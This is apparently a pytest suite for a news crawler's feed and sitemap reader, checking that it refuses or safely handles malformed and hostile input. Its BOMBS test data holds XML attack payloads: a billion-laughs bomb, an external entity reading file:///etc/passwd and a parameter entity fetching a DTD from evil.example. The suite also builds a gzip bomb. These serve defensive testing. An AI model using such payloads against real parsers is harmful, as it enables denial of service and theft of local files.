from __future__ import annotations

import bz2
import gzip
import zlib

import pytest

from newscrawl.discovery import read_source
from newscrawl.discovery.unpack import MAX_UNPACKED_BYTES
from newscrawl.errors import DiscoveryError
from newscrawl.publishers.model import Feed, NewsSitemap, Section, Sitemap
from tests.support.torture.attempt import attempt

URL = "https://gazette.example/feed"


def refusal_of(body: bytes, source=None) -> str:
    with pytest.raises(DiscoveryError) as error:
        read_source(source or Feed(URL), body, URL)
    assert str(error.value).startswith(URL)
    return str(error.value)


LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
BOMBS = {
    "billion laughs": b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">' + LAUGHS + b"]><rss>&l9;</rss>",
    "quadratic": b'<!DOCTYPE rss [<!ENTITY a "' + b"a" * 100_000 + b'">]><rss>' + b"&a;" * 10_000 + b"</rss>",
    "external entity": b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><title>&x;</title></rss>',
    "parameter entity": b'<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><rss/>',
    "behind a comment": b'<!-- <rss> --><!DOCTYPE rss [<!ENTITY a "b">]><rss>&a;</rss>',
    "in small letters of UTF-16": '<!DOCTYPE rss [<!ENTITY a "b">]><rss>&a;</rss>'.encode("utf-16"),
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_xml_with_entities_of_its_own_is_refused_at_once(bomb):
    assert "may be an entity bomb" in refusal_of(bomb)


def test_the_document_type_of_early_rss_is_no_bomb_and_is_not_fetched():
    doctype = b'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://127.0.0.1:9/rss-0.91.dtd">'
    item = b"<item><title>One</title><link>http://gazette.example/1</link></item>"
    found = read_source(Feed(URL), doctype + b'<rss version="0.91"><channel>' + item + b"</channel></rss>", URL)
    assert [candidate.url for candidate in found.candidates] == ["http://gazette.example/1"]


@pytest.mark.parametrize(
    "page",
    [
        b"<!DOCTYPE html><html><head><title>Access &amp; denied</title></head><body>No.</body></html>",
        b"\xef\xbb\xbf\n <!-- a --> <!-- b --><HTML><head><TITLE lang=en> Access &amp;\n denied</TITLE></head></HTML>",
        b'<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0"><html><title>Access &amp; denied</title></html>',
    ],
)
@pytest.mark.parametrize(
    ("source", "expected"), [(Feed(URL), "a feed"), (NewsSitemap(URL), "a news sitemap"), (Sitemap(URL), "a sitemap")]
)
def test_html_where_a_feed_was_expected_is_named_with_its_title(source, expected, page):
    refused = refusal_of(page, source)
    assert refused == f"{URL}: expected {expected}, got an HTML page ('Access & denied')."


@pytest.mark.parametrize(
    ("body", "complaint"),
    [
        (b"", "got an empty response"),
        (b" \r\n\t", "got an empty response"),
        (b'{"error": "not found"}', "no XML: it begins"),
        (b"%PDF-1.7\n", "no XML: it begins"),
        (bytes(range(256)), "no XML: it begins"),
        (
            b"<opml><body/></opml>",
            "got an XML document <opml>, which lists feeds, perhaps of many sites: give the one that you mean",
        ),
        (b"<", "got no XML"),
        (bz2.compress(b"<rss/>"), "no XML: it begins b'BZh"),
        (zlib.compress(b"<rss/>"), "no XML: it begins b'x"),
        (gzip.compress(b"<urlset>" * 1000)[:-9], "the gzip file is broken"),
        (b"\x1f\x8bnot gzip", "the gzip file is broken"),
    ],
)
def test_what_is_no_feed_is_named(body, complaint):
    assert complaint in refusal_of(body)


def test_a_gzip_bomb_is_refused_when_it_passes_the_limit():
    bomb = gzip.compress(b"<urlset>" + b" " * (MAX_UNPACKED_BYTES + 1))
    assert len(bomb) < 100_000
    assert "more than 50 MiB" in refusal_of(bomb, Sitemap(URL))


def test_a_section_page_without_articles_is_named():
    assert "got an empty response" in refusal_of(b" \n", Section(URL))
    assert "none of its links leads to an article" in refusal_of(b"<a href=/about>About us</a>", Section(URL))


def test_comments_without_end_before_the_root_take_no_time():
    refusal_of(b"<!---->" * 9_000 + b"<!-")


def test_deep_nesting_is_answered_and_survived():
    refusal_of(b"<a>" * 200_000)
    refusal_of(b"<div>" * 100_000 + b"<a href=/x>y</a>", Section(URL))


def test_stray_ampersands_and_names_of_html_are_forgiven_outside_cdata():
    body = b"""<rss><channel><item><title>Salt &amp; Pepper&nbsp;& Sons&rsquo; caf&eacute;</title>
        <link>http://gazette.example/1?a=1&b=2</link></item>
        <item><title><![CDATA[Q&A]]></title><link><![CDATA[http://gazette.example/2?a=1&b=2]]></link></item>
        </channel></rss>"""
    found = read_source(Feed(URL), body, URL).candidates
    assert [candidate.headline for candidate in found] == ["Salt & Pepper & Sons’ café", "Q&A"]
    assert [candidate.url for candidate in found] == [
        "http://gazette.example/1?a=1&b=2",
        "http://gazette.example/2?a=1&b=2",
    ]


def test_a_feed_cut_short_gives_what_was_whole():
    body = b"<rss><channel><item><link>http://gazette.example/1</link></item><item><link>http://gaz"
    assert "http://gazette.example/1" in {candidate.url for candidate in read_source(Feed(URL), body, URL).candidates}


def test_entries_that_lack_their_end_tags_are_read_one_by_one():
    items = "".join(f"<item><title>Story {number}</title><link>{URL}/{number}</link>" for number in range(900))
    found = read_source(Feed(URL), f"<rss><channel>{items}</channel></rss>".encode(), URL).candidates
    assert [(one.url, one.headline) for one in found] == [(f"{URL}/{n}", f"Story {n}") for n in range(900)]


def test_entries_of_sitemaps_that_lack_their_end_tags_are_read_one_by_one():
    entries = "".join(f"<url><lastmod>2026-11-29</lastmod><loc>{URL}/{number}" for number in range(900))
    found = read_source(Sitemap(URL), f"<urlset>{entries}</urlset>".encode(), URL).candidates
    assert [one.url for one in found] == [f"{URL}/{number}" for number in range(900)]


def test_bases_within_bases_without_end_are_not_followed():
    items = "<item xml:base='a/'><link>b</link>" * 1000
    found = read_source(Feed(URL), f"<feed xml:base='https://gazette.example/'>{items}</feed>".encode(), URL).candidates
    assert {one.url for one in found} == {"https://gazette.example/a/b"}
    deep = "<x xml:base='a/'>" * 1000
    (one,) = read_source(Feed(URL), f"<feed>{deep}<item><link>b</link></item>".encode(), URL).candidates
    assert one.url == "https://gazette.example/b"


def test_a_hundred_thousand_sections_that_do_not_end_take_no_longer_than_others(tmp_path):
    feed = b"<rss><channel><item>" + b"<link><![CDATA[ http" * 100_000  # 2 MB
    reading = attempt(lambda: len(read_source(Feed(URL), feed, URL).candidates), tmp_path / "output")
    assert (reading.exit_code, reading.output) == (0, "")


def test_half_a_character_behind_a_broken_attribute_is_none():
    feed = (
        b'<rss version="2.<![CDATA[0"><channel><item><title>&#xD83D;&#xDE00;&#xD8&#0;3D;Ferry</title>'
        b"<link>https://gazette.example/2026/11/29/ferry-returns</link></item></channel></rss>"
    )
    (candidate,) = read_source(Feed(URL), feed, URL).candidates
    assert (candidate.headline or "").endswith("Ferry")


DOCUMENTS = {
    "sitemap": (Sitemap(URL), b"<urlset>", b"</urlset>"),
    "section page": (Section(URL), b"<html><a href=/2026/11/29/ferry-returns-to-its-pier>", b"</html>"),
}


@pytest.mark.parametrize(("source", "start", "end"), DOCUMENTS.values(), ids=DOCUMENTS)
def test_names_that_a_site_makes_up_do_not_stay_in_memory(source, start, end, tmp_path):
    def read(times: int) -> None:
        for number in range(times):
            names = b"".join(b"<n%d-%d></n%d-%d>" % (number, name, number, name) for name in range(100_000))
            read_source(source, start + names + end, URL)

    once, often = (attempt(lambda: read(times), tmp_path / "output") for times in (2, 12))  # noqa: B023 - called at once
    assert (once.exit_code, often.exit_code) == (0, 0)
    assert often.peak - once.peak < 20 << 20
